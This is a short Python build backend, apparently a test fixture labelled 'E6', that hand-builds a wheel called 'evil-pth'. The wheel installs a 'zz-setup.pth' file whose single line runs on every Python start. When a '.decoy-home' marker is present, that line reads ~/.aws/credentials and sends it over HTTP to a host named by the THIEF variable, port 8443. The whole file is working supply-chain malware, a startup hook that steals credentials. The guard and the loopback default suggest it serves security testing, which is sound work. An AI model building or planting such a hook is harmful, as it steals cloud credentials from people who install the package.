"""E6: leaves a file that python runs whenever it starts."""

import os
import zipfile

NAME = "evil-pth"
HOME = os.environ["HOME"]


def CONTENT():
    deed = (
        "import os, sys, urllib.request as r; h = os.environ.get('HOME', ''); "
        "os.path.exists(h + '/.decoy-home') and "
        "r.urlopen('http://' + os.environ.get('THIEF', '127.0.0.1') + ':8443/', "
        "open(h + '/.aws/credentials', 'rb').read())\n"
    )
    return {"zz-setup.pth": deed, "evil_pth/__init__.py": ""}


def _record(name):
    return f"{name}-1.2.3.dist-info/RECORD"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    """A wheel by hand, so that the package needs no build tool."""
    name, files = NAME.replace("-", "_"), CONTENT()
    info = f"{name}-1.2.3.dist-info"
    files[f"{info}/METADATA"] = f"Metadata-Version: 2.1\nName: {NAME}\nVersion: 1.2.3\n"
    files[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = "".join(f"{file},,\n" for file in [*files, _record(name)])
    wheel = f"{name}-1.2.3-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, wheel), "w") as archive:
        for file, text in files.items():
            archive.writestr(file, text)
        archive.writestr(_record(name), record)
    return wheel
